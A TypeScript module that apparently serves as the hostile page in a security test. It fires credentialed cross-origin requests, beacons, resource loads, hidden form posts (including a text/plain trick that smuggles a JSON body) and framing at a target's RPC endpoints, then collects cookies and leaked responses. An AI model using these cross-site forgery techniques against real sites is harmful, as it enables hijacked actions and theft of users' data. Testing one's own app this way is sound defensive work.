/** What a hostile page tries. It runs inside the page: nothing from outside this function is in reach. */

/** What each way read; empty for nothing. */
export type Loot = Record<string, string>;

/** @param order `target` is the origin that is attacked, `popup` the address that a window is opened at. */
export async function attack(order: {
  target: string;
  popup: string;
  call: string;
}): Promise<Loot> {
  const { target, popup, call } = order;
  const loot: Loot = { cookie: document.cookie };
  const address = (way: string): string => `${target}/rpc/weekly/open?by=${way}`;
  const json = { "content-type": "application/json", "x-stepback": "1" };
  const plain = { "content-type": "text/plain" };

  const fields = new FormData();
  fields.set("data", call);

  const opened = window.open(popup);
  const steal = async (way: string, url: string, init: RequestInit): Promise<void> => {
    loot[way] = await fetch(url, { credentials: "include", ...init }).then(
      (answer) => (answer.ok ? answer.text() : ""),
      () => "",
    );
  };
  await Promise.all([
    steal("cors", address("cors"), { method: "POST", headers: json, body: call }),
    steal("simple", address("simple"), { method: "POST", headers: plain, body: call }),
    steal("bare", address("bare"), {
      method: "POST",
      credentials: "omit",
      headers: plain,
      body: call,
    }),
    steal("noCors", address("noCors"), {
      method: "POST",
      mode: "no-cors",
      headers: plain,
      body: call,
    }),
    steal("noCors form", address("noCors form"), { method: "POST", mode: "no-cors", body: fields }),
    steal("get", `${address("get")}&data=${encodeURIComponent(call)}`, {}),
    steal("page", `${target}/`, {}),
  ]);
  navigator.sendBeacon(address("beacon"), new Blob([call], { type: "text/plain" }));
  navigator.sendBeacon(address("beacon form"), fields);

  const loaded = (element: HTMLElement): Promise<boolean> =>
    new Promise((resolve) => {
      element.addEventListener("load", () => resolve(true));
      element.addEventListener("error", () => resolve(false));
      document.body.append(element);
    });
  const image = Object.assign(new Image(), { src: address("image") });
  loot["image"] = (await loaded(image)) ? `${image.naturalWidth} wide` : "";
  const script = Object.assign(document.createElement("script"), { src: address("script") });
  loot["script"] = (await loaded(script)) ? String(Reflect.get(window, "taken") ?? "ran") : "";
  const style = Object.assign(document.createElement("link"), {
    rel: "stylesheet",
    href: address("style"),
  });
  loot["style"] = (await loaded(style)) ? "styled" : "";

  for (const enctype of [
    "text/plain",
    "multipart/form-data",
    "application/x-www-form-urlencoded",
  ]) {
    const way = `form ${enctype}`;
    const frame = Object.assign(document.createElement("iframe"), { name: way });
    await loaded(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", enctype, target: way, action: address(way) });
    // As text/plain the field's name, the equals sign and its value make one piece of JSON; as
    // multipart/form-data a field of this name is what the contract library takes for a call.
    const asText = { name: `${call.slice(0, -1)},"x":"`, value: '"}' };
    const asField = { name: "data", value: call };
    const field = Object.assign(
      document.createElement("input"),
      enctype === "text/plain" ? asText : asField,
    );
    form.append(field);
    document.body.append(form);
    const answered = new Promise((resolve) => frame.addEventListener("load", resolve));
    form.submit();
    await answered;
    try {
      loot[way] = frame.contentDocument?.body.innerText ?? "";
    } catch {
      loot[way] = "";
    }
  }

  const framed = document.createElement("iframe");
  Object.assign(framed, { name: "framed", src: `${target}/` });
  await loaded(framed);

  loot["events"] = await new Promise((resolve) => {
    const events = new EventSource(`${target}/rpc/journal/changes`, { withCredentials: true });
    events.addEventListener("open", () => resolve("open"));
    events.addEventListener("error", () => resolve(""));
  });

  // The window has had its time to load.
  await new Promise((resolve) => setTimeout(resolve, 300));
  try {
    loot["popup"] = opened?.document.documentElement.outerHTML ?? "";
  } catch {
    loot["popup"] = "";
  }
  return loot;
}
